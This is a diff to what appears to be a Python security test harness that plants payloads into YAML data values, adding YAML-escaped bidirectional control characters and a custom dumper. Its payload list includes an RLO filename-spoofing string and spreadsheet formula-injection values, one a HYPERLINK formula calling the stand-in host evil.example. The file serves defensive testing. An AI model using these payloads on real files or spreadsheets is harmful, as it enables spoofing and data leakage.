@@ -40,6 +40,10 @@ class PayloadClass:
     pages: bool = True
 
 
+class Escaped(str):
+    """A payload a data file writes with YAML escapes for its hidden characters."""
+
+
 LONG = "Dài " * 30_000  # 120,000 characters in one value
 
 CLASSES = [
@@ -84,8 +88,12 @@ CLASSES = [
     PayloadClass("bidi", (
         "{T}\u202e{T}gnp.exe",
         "{T}\u200b{T}\u2066x\u2069",
+        # The same characters written as YAML escapes ("\u202E"): the file holds
+        # only ASCII, the loaded value holds the control character.
+        Escaped("{T}\u202e{T}gnp.exe"),
+        Escaped("{T}\u2067{T}\u200d"),
     )),
-    PayloadClass("formula", (
+    PayloadClass("formula", (  # put in front of the real value: a cell starts with it
         '=HYPERLINK("https://evil.example/{T}";"Xem")',
         "@SUM(1+1)*{T}",
         "+{T}",
@@ -109,6 +117,8 @@ TOKEN = re.compile(r"kq\d{5}z")
 
 
 def render(payload, tok: str):
+    if isinstance(payload, Escaped):
+        return Escaped(payload.replace("{T}", tok))
     return payload.replace("{T}", tok) if isinstance(payload, str) else payload
 
 
@@ -214,11 +224,12 @@ def _get(data, path: tuple):
 
 
 def put(data, path: tuple, value, replace: bool):
-    """Write `value` at `path` (appended to the real text unless `replace`)."""
+    """Write `value` at `path`: after the real text, or (`replace`) before it
+    (a number is replaced)."""
     target = _get(data, path[:-1])
     old = target.get(path[-1]) if isinstance(target, dict) else target[path[-1]]
-    if not replace and isinstance(old, str) and isinstance(value, str):
-        value = f"{old} {value}"
+    if isinstance(old, str) and isinstance(value, str):
+        value = f"{value} {old}" if replace else f"{old} {value}"
     target[path[-1]] = value
 
 
@@ -236,9 +247,24 @@ def load_yaml(text: str):
     return yaml.load(text, Loader=_Loader)
 
 
-def dump_yaml(data) -> str:
-    return yaml.dump(data, Dumper=getattr(yaml, "CSafeDumper", yaml.SafeDumper), allow_unicode=True,
-                     sort_keys=False, width=1_000_000_000, default_flow_style=False)
+class _Dumper(yaml.SafeDumper):
+    pass
+
+
+def _str(dumper, value):
+    style = '"' if HIDDEN.search(value) else None
+    return dumper.represent_scalar("tag:yaml.org,2002:str", value, style=style)
+
+
+_Dumper.add_representer(str, _str)
+
+
+def dump_yaml(data, escape: bool = False) -> str:
+    """YAML text of `data`, each value on one line; `escape`: hidden characters
+    written as YAML escapes (\\u202E) in double-quoted values."""
+    text = yaml.dump(data, Dumper=_Dumper, allow_unicode=True, sort_keys=False, width=1_000_000_000,
+                     default_flow_style=False)
+    return HIDDEN.sub(lambda m: f"\\u{ord(m.group(0)):04X}", text) if escape else text
 
 
 def line_of_path(text: str, path: tuple) -> int:
@@ -335,7 +361,7 @@ class Finding:
 
 
 URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
-             "values", "to", "from", "by", "srcset", "content"}
+             "values", "to", "from", "by", "srcset"}
 LIVE_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "base",
              "form", "input", "button", "textarea", "select", "animate", "set", "animatemotion",
              "animatetransform", "portal"}
